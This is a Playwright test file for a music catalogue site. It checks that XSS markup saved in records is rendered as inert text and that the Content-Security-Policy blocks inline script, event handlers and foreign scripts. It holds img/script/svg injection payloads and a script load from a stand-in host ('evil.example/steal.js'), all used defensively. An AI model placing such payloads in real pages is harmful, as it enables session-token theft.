import { accountWithRole, loginToken, signInAs } from './accounts';
import { expect, test, type Page } from './fixtures';
import { createPerson } from './people-api';
import { createScore } from './scores-api';
import { unique } from './support';

// The session token lives in a cookie the page reads (spec §4): a script injected into a page
// could take it. These tests show that markup saved in a record is shown as text and never runs
// (React escapes it), and that the server's Content-Security-Policy refuses inline script even
// when it does reach the document.

/** Markup a contributor could save into text fields; each would set window.__pwned if it ran. */
const PAYLOAD = {
  img: `<img src=x onerror="window.__pwned='img'">`,
  script: `<script>window.__pwned='script'</script>`,
  svg: `<svg onload="window.__pwned='svg'"><circle r="4"></circle></svg>`,
};

/** Nothing of the payloads ran, and none of them became an element. */
async function expectInert(page: Page) {
  expect(await page.evaluate(() => (window as { __pwned?: unknown }).__pwned)).toBeUndefined();
  await expect(page.locator('img[src="x"], svg[onload], body script')).toHaveCount(0);
}

test.describe('markup in records', () => {
  test('is shown as text on record pages and in lists, and never runs', async ({
    page,
    request,
  }) => {
    const contributor = await accountWithRole(request, 'injector', 'contributor');
    const token = (await loginToken(request, contributor.email, contributor.password))!;

    // Through the editor, as a contributor would.
    await signInAs(page, contributor);
    const label = unique('Injected collection');
    const collectionName = `${label} ${PAYLOAD.img}`;
    await page.goto('/collections/create');
    await page.getByRole('textbox', { name: 'Name' }).fill(collectionName);
    await page.getByRole('textbox', { name: 'Prefix' }).fill(`X ${PAYLOAD.script}`);
    await page.getByRole('button', { name: 'Save' }).click();
    await expect(page).toHaveURL(/\/collections\/\d+$/);
    const collectionId = page.url().split('/').pop()!;
    await expect(page.getByRole('heading', { level: 1, name: collectionName })).toBeVisible();
    await expect(page.getByText(`X ${PAYLOAD.script}`)).toBeVisible();
    await expectInert(page);

    // Through the API, into a person and a score that shows them both.
    const personName = `${unique('Injected person')} ${PAYLOAD.script}`;
    const personId = await createPerson(request, token, {
      names: [{ name: personName, primary: true }],
    });
    const shortTitle = `${unique('Injected score')} ${PAYLOAD.svg}`;
    const scoreId = await createScore(request, token, {
      collection: { id: collectionId },
      shelfmark: 'Ms. 1',
      short_title: shortTitle,
      title: `Title ${PAYLOAD.img}`,
      notes: `Notes ${PAYLOAD.script}`,
      attributions: [{ person: { id: personId }, function: 'cmp', qualifier: 'dbf' }],
      incipits: [
        { number: 1, movement: 1, clef: 'G-2', pae: "'2C4DE", notes: `Incipit ${PAYLOAD.svg}` },
      ],
    });

    await page.goto(`/scores/${scoreId}`);
    await expect(page.getByRole('heading', { level: 1, name: shortTitle })).toBeVisible();
    await expect(page.getByText(`Title ${PAYLOAD.img}`)).toBeVisible();
    await expect(page.getByText(`Notes ${PAYLOAD.script}`)).toBeVisible();
    await expect(page.getByRole('link', { name: personName })).toBeVisible();
    const incipits = page.getByRole('region', { name: 'Incipits' });
    await incipits.scrollIntoViewIfNeeded();
    await expect(incipits.getByRole('img', { name: 'Incipit 1.1' })).toBeVisible();
    await expect(incipits.getByText(`Incipit ${PAYLOAD.svg}`)).toBeVisible();
    await expectInert(page);

    await page.goto(`/people/${personId}`);
    await expect(page.getByRole('heading', { level: 1, name: personName })).toBeVisible();
    await expect(page.getByText(shortTitle)).toBeVisible();
    await expectInert(page);

    await page.goto('/');
    await page.getByRole('searchbox', { name: 'Search the catalogue' }).fill(label);
    await expect(page.getByRole('link', { name: collectionName })).toBeVisible();
    await expectInert(page);
  });
});

test.describe('the Content-Security-Policy', () => {
  test('refuses inline script, event handlers and foreign scripts that reach the document', async ({
    page,
    cspViolations,
  }) => {
    await page.goto('/');
    await expect(page.getByRole('navigation', { name: 'Main menu' })).toBeVisible();

    // Each insertion waits for the browser's securitypolicyviolation event: the CSP itself, not
    // React's escaping, stops them here. Without a policy no event comes: after a while the
    // answer says what ran instead.
    const refused = await page.evaluate(async () => {
      const pwned = () => (window as { __pwned?: unknown }).__pwned;
      const violation = (insert: () => void) =>
        new Promise<string>((resolve) => {
          document.addEventListener(
            'securitypolicyviolation',
            (event) => resolve(`${event.effectiveDirective} ${event.blockedURI}`),
            { once: true },
          );
          setTimeout(() => resolve(`no violation; __pwned: ${String(pwned())}`), 5000);
          insert();
        });
      const inline = await violation(() => {
        const script = document.createElement('script');
        script.textContent = "window.__pwned = 'inline script'";
        document.body.append(script);
      });
      const handler = await violation(() => {
        document.body.insertAdjacentHTML(
          'beforeend',
          `<img src="/favicon.svg" onload="window.__pwned = 'event handler'">`,
        );
      });
      const foreign = await violation(() => {
        const script = document.createElement('script');
        script.src = 'https://evil.example/steal.js';
        document.body.append(script);
      });
      return [inline, handler, foreign];
    });
    expect(refused).toEqual([
      'script-src-elem inline',
      'script-src-attr inline',
      'script-src-elem https://evil.example/steal.js',
    ]);
    expect(await page.evaluate(() => (window as { __pwned?: unknown }).__pwned)).toBeUndefined();

    // Chromium reported them too; they are this test's, not failures of the app.
    await expect.poll(() => cspViolations.length).toBe(3);
    cspViolations.length = 0;
  });
});
